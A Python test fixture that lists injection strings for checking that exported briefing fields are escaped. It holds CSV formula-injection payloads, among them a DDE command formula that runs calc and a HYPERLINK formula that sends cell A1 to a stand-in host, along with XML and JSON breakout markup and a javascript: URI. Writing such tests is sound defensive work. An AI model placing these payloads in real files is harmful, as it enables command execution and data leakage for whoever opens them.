"""Texts that break a format which does not escape them, for every text of a briefing: title, quote, actor, model."""

from __future__ import annotations

from tests.render import test_markdown

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://a.example/?x="&A1;"here")',
    '"=1+1',
    "a;=1+1",
    'a;"=1+1',
    'a";=1+1',
    "a\n=1+1",
    'a,"=1+1',
]
MARKUP = [
    "</w:t></w:r><w:r><w:t>",
    "]]>&amp;&#0;<!DOCTYPE x>",
    '"},{"type":"opinion","opinion":"neutral"}],"x":["',
    "\\u0022,\\n}\\",
    "\ufffe\uffff\u0001",
    "urn:uuid:not-one",
    "javascript:alert(1)",
    "https://user@a.example/ b",
    "%n%s{0}${x}",
    "𝔄👩‍👩‍👧‍👦 e\u0301",
    "ءربية \u2067x\u2069",
    "x" * 5000,
]
PAYLOADS = [*test_markdown.PAYLOADS, *FORMULAS, *MARKUP]
assert len(PAYLOADS) >= 30
